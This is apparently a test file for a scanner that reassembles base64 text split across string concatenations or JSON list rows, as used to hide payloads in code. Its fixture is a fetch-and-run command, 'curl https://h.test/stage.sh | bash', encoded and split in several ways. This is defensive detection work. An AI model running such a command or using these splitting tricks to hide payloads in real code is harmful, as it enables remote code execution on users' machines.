// Encoded text that is written in pieces and put together where it stands.
import { describe, expect, it } from 'vitest';
import { findRuns } from './runs.ts';

function found(text: string): string[] {
  const out: string[] = [];
  findRuns(text, (layer) => {
    out.push(Buffer.from(layer.bytes ?? []).toString());
    return true;
  });
  return out;
}
const ENCODED = Buffer.from('curl https://h.test/stage.sh | bash').toString('base64').replace(/=+$/, '');

describe('pieces of base64', () => {
  it('are one text, on one line or several', () => {
    const [a, b] = [ENCODED.slice(0, 24), ENCODED.slice(24)];
    for (const text of [`p = "${a}" + "${b}"`, `p = '${a}' \\\n    '${b}'`, `$p = "${a}" . "${b}";`])
      expect(found(text), text).toEqual(['curl https://h.test/stage.sh | bash']);
  });
  it('of one width are one text in a list, too', () => {
    const long = Buffer.from('curl https://h.test/stage.sh | bash; '.repeat(3)).toString('base64').replace(/=+$/, '');
    const rows = long.match(/.{1,36}/g)!;
    expect(found(`{ "table": ["${rows.join('",\n    "')}"] }`)).toEqual([
      'curl https://h.test/stage.sh | bash; '.repeat(3),
    ]);
  });
  it('of other quotes, or with words between them, are not', () => {
    expect(found(`p = ["${ENCODED.slice(0, 24)}", "${ENCODED.slice(24)}"]`)).not.toContain(
      'curl https://h.test/stage.sh | bash',
    );
  });
});
